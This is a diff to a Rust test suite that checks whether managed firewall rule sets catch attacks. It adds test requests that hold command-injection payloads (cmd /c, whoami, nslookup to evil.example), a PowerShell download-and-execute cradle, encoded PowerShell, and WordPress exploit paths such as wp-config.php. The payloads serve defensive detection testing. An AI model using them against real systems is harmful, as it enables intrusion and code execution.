@@ -75,6 +75,14 @@ fn assert_caught(group: &str, rule: &str, req: Request) {
 }
 
 #[test]
+fn groups_are_sorted_by_name() {
+    let names: Vec<&str> = groups().iter().map(|g| g.name).collect();
+    let mut sorted = names.clone();
+    sorted.sort_unstable();
+    assert_eq!(names, sorted);
+}
+
+#[test]
 fn every_rule_compiles_within_its_groups_capacity() {
     for g in groups() {
         let mut total = 0;
@@ -387,6 +395,59 @@ fn admin_linux_unix_and_php_rules_catch_their_attacks() {
         php,
         "PHPHighRiskMethodsVariables_BODY",
         post("data=php://input"),
+    );
+}
+
+#[test]
+fn windows_and_wordpress_rules_catch_their_attacks() {
+    let win = "AWSManagedRulesWindowsRuleSet";
+    assert_caught(
+        win,
+        "WindowsShellCommands_COOKIE",
+        with_header(ordinary(), "Cookie", "host=x%7C%7Cnslookup%20evil.example"),
+    );
+    assert_caught(
+        win,
+        "WindowsShellCommands_QUERYARGUMENTS",
+        get("/ping", "ip=127.0.0.1;cmd%20/c%20dir"),
+    );
+    assert_caught(win, "WindowsShellCommands_BODY", post("target=x && whoami"));
+    assert_caught(
+        win,
+        "PowerShellCommands_COOKIE",
+        with_header(ordinary(), "Cookie", "p=Invoke-Expression%20$x"),
+    );
+    assert_caught(
+        win,
+        "PowerShellCommands_QUERYARGUMENTS",
+        get(
+            "/",
+            "c=IEX(New-Object%20Net.WebClient).DownloadString('http://x')",
+        ),
+    );
+    assert_caught(
+        win,
+        "PowerShellCommands_BODY",
+        post("cmd=powershell -EncodedCommand SQBFAFgA"),
+    );
+    let wp = "AWSManagedRulesWordPressRuleSet";
+    assert_caught(
+        wp,
+        "WordPressExploitableCommands_QUERYSTRING",
+        get(
+            "/wp-admin/admin.php",
+            "page=wordpress-reset&action=do-reset-wordpress",
+        ),
+    );
+    assert_caught(
+        wp,
+        "WordPressExploitablePaths_URIPATH",
+        get("/xmlrpc.php", ""),
+    );
+    assert_caught(
+        wp,
+        "WordPressExploitablePaths_URIPATH",
+        get("/blog/wp-config.php", ""),
     );
 }
 
